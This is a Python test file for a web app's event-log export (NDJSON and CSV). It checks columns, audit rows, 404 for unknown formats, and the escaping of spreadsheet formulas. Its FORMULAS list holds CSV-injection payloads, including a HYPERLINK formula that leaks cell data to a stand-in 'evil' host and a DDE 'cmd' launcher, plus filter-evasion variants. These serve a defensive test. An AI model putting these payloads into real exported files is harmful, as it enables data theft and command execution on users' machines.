"""The log as a file: what the page shows, and nothing that a spreadsheet works out."""

import csv
import json

import pytest

from hub.audit import AuditRow
from hub.csv_cells import escape_formula, format_csv_row

pytestmark = pytest.mark.django_db
LOG = "/t/acme/events/"


def test_an_export_holds_what_the_page_shows(admin, make, acme, delivery_rows):
    rows = b"".join(
        admin.get(f"{LOG}export.ndjson?type=order.created").streaming_content
    ).splitlines()
    assert len(rows) == 60 and json.loads(rows[-1])["sender_id"] == "o-1"
    file = b"".join(admin.get(f"{LOG}export.csv?state=failed").streaming_content).decode()
    names = [
        "id",
        "event",
        "sender_id",
        "type",
        "state",
        "reason",
        "sentence",
        "target",
        "attempt_count",
    ]
    assert list(csv.reader([file])) == [[*names, "accepted_at", "state_changed_at"]]
    assert AuditRow.objects.filter(verb="deliveries.export").count() == 2


FORMULAS = (
    '=HYPERLINK("http://evil?"&A1,"x")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    '"=1"',
    "  =1",
    ";=1",
    ",=1",
    "; =1",
    "|=1",
    "'=1",
    "\u00a0=1",
    "\u3000=1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(1)",
    ";＝1",
    "−1",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_spreadsheet_works_anything_out(text):
    assert escape_formula(text) == f"'{text}"
    assert (
        format_csv_row([text, "next;=1"]).strip()
        == '"{}","next;=1"'.format(text.replace('"', '""')).strip()
    )


@pytest.mark.parametrize("value", ["o-1", "Ann + Bob", "a@b.test", "o-1; =2", "", 3])
def test_what_is_no_formula_stays_as_it_is(value):
    assert escape_formula(value) == value


def test_an_unknown_kind_of_file_is_not_found(admin):
    assert admin.get(f"{LOG}export.xlsx").status_code == 404
